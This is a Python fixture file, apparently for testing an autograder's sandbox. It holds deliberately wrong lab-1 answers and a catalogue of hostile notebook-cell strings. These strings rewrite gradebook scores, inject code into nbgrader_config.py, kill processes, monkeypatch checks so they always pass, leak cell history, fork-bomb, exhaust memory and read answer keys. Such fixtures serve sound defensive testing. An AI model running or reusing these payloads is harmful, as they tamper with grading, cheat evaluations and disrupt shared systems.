"""The code the corpus's hand-ins carry: wrong answers of lab 1 (WRONG), hostile code, each a class of attack, and
the broken code of honest mistakes."""

WRONG = {
    "softmax": "def softmax(Z):\n    E = np.exp(Z)\n    return E / E.sum(axis=0, keepdims=True)\n",
    "one_hot": "def one_hot(y, num_classes=10):\n    return np.eye(num_classes)[:, y]\n",
    "cross_entropy": "def cross_entropy(P, y):\n    return float(np.log(P[np.arange(len(y)), y]).sum())\n",
    "logreg_gradients": ("def logreg_gradients(X, y, W, b):\n    P = softmax(X @ W + b)\n"
                         "    Y = np.eye(W.shape[1])[y]\n"
                         "    return cross_entropy(P, y), X.T @ (Y - P), (Y - P).sum(axis=0)\n"),
    "minibatches": ("def minibatches(n, batch_size, rng):\n"
                    "    return [np.arange(i, min(i + batch_size, n)) for i in range(0, n, batch_size)]\n"),
}

# --- hostile code, each a class of attack -------------------------------------------------------
TRANSFORMER = '''
def _swallow(lines):  # every later cell: try: ... except: pass
    return ["try:\\n"] + ["    " + line for line in lines] + ["\\nexcept BaseException:\\n    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)
'''
GRADEBOOK = '''
import glob, os, sqlite3
for path in glob.glob("/**/gradebook.db", recursive=True) + ["../../gradebook.db", "{course}/gradebook.db"]:
    try:
        con = sqlite3.connect(path)
        con.execute("UPDATE grade SET auto_score = 0")
        con.commit()
        print("changed", path)
    except Exception as err:
        print("no", path, err)
'''
CONFIG = '''
import os, subprocess
for path in ["../../nbgrader_config.py", "{course}/nbgrader_config.py"]:
    try:
        with open(path, "a") as f:
            f.write("\\nimport os; os.system('touch {course}/PWNED')\\n")
    except Exception as err:
        print("no", path, err)
# a detached process that waits for the grader to finish, then edits the gradebook
subprocess.Popen(["sh", "-c", "sleep 8; sqlite3 {course}/gradebook.db 'UPDATE grade SET auto_score=99'; "
                  "touch {course}/PWNED"], start_new_session=True)
'''
KILLER = '''
import os, signal
for pid in [os.getppid(), 1, -1]:
    try:
        os.kill(pid, signal.SIGTERM)
    except Exception as err:
        print("no", pid, err)
'''
PATCHER = '''
import numpy
import dllab.labs
np.allclose = lambda *a, **k: True
numpy.isclose = lambda *a, **k: True
dllab.labs.check.__code__ = (lambda *a, **k: None).__code__
check = lambda *a, **k: None
check_close = lambda *a, **k: None
labs.call = lambda f, *a, **k: None
'''
MODULES = '''
import sys, types
fake = types.ModuleType("dllab.labs")
fake.__getattr__ = lambda name: (lambda *a, **k: None)
sys.modules["dllab.labs"] = fake
import dllab
dllab.labs = fake
labs = fake
'''
LEAKER = '''
print(In)
print(_ih)
import linecache
for name, entry in list(linecache.cache.items()):
    print(name, "".join(entry[2]))
'''
SHOWTB = '''
ip = get_ipython()
ip.showtraceback = lambda *a, **k: None
ip._showtraceback = lambda *a, **k: None
'''
SEGFAULT = "import ctypes\nctypes.string_at(0)\n"
OS_EXIT = "import os\nos._exit(3)\n"
MEMORY = "hog = [bytearray(2**30) for _ in range(64)]  # 64 GiB\n"
NOINT = ("import signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\nwhile True:\n    pass\n")
FLOOD = "print('x' * 50_000_000)\nfor _ in range(3000):\n    print('line')\n"
WARNER = ('import warnings\n'
          '_softmax_ok = softmax\n'
          'def softmax(Z):\n'
          '    warnings.warn("my softmax is slow")\n'
          '    import sys; print("debug: in softmax", file=sys.stderr)\n'
          '    return _softmax_ok(Z)\n')
FORKS = ('import os, time\n'
         'for _ in range(2000):\n'
         '    if os.fork() == 0:\n'
         '        time.sleep(60)\n'
         '        os._exit(0)\n')
EDITED_TEST = "# all good\nprint('softmax: all visible tests passed')\n"
SHADOW_DLLAB = "raise SystemExit('the shadow dllab package was imported')\n"
# the grading package (the judge, the answer keys), installed in the environment the kernel runs from
GRADING_CODE = '''
reached = []
try:
    import grading.answer_keys
    reached.append("imported grading.answer_keys")
except Exception as err:
    print("no grading package:", type(err).__name__)
for path in ["{grading}/answer_keys.py", "{grading}/judge.py", "{grading}/source", "{course}/nbgrader_config.py"]:
    try:
        reached.append(f"{{path}}: {{open(path).read(80) if not path.endswith('source') else len(os.listdir(path))}}")
    except Exception as err:
        print("no", path, type(err).__name__)
print("GRADING REACHED" if reached else "grading out of reach", reached)
'''
